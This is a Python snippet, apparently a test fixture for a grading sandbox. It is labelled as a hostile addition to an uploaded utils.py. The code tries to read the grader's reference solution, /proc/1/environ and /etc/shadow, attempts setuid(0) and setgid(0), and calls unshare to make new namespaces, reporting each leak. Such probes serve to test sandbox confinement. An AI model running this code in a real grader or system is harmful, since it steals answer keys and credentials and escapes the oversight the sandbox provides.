# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: E402
_PROJECT_DIR = "__PROJECT_DIR__"  # the test puts the grader's repository here
if _PROJECT_DIR.startswith("__"):
    _PROJECT_DIR = "/autograder/source"

import ctypes as _ctypes
import os as _os

for _path in ("/proc/1/root" + _PROJECT_DIR + "/reference/utils.py", "/proc/1/environ", "/proc/1/cwd",
              f"/proc/{_os.getppid()}/root/etc/shadow", _PROJECT_DIR + "/reference/utils.py", "/etc/shadow"):
    try:
        _content = open(_path, "rb").read() if not _os.path.isdir(_path) else str(_os.listdir(_path)).encode()
        print(f"LEAKED {_path}: {_content[:300]!r}")
    except OSError as _error:
        print(f"could not read {_path}: {_error}")
for _name, _call in (("setuid(0)", lambda: _os.setuid(0)), ("setgid(0)", lambda: _os.setgid(0))):
    try:
        _call()
        print(f"LEAKED: {_name} worked")
    except OSError as _error:
        print(f"{_name} refused: {_error}")
_libc = _ctypes.CDLL(None, use_errno=True)
if _libc.unshare(0x10000000 | 0x00020000) == 0:  # a user and mount namespace of its own
    print("made a user namespace; it holds only what the worker could see already")
    for _path in (_PROJECT_DIR + "/reference/utils.py", "/etc/shadow"):
        try:
            open(_path, "rb").read()
            print(f"LEAKED {_path} from the user namespace")
        except OSError as _error:
            print(f"still cannot read {_path}: {_error}")
else:
    print(f"no user namespace: errno {_ctypes.get_errno()}")
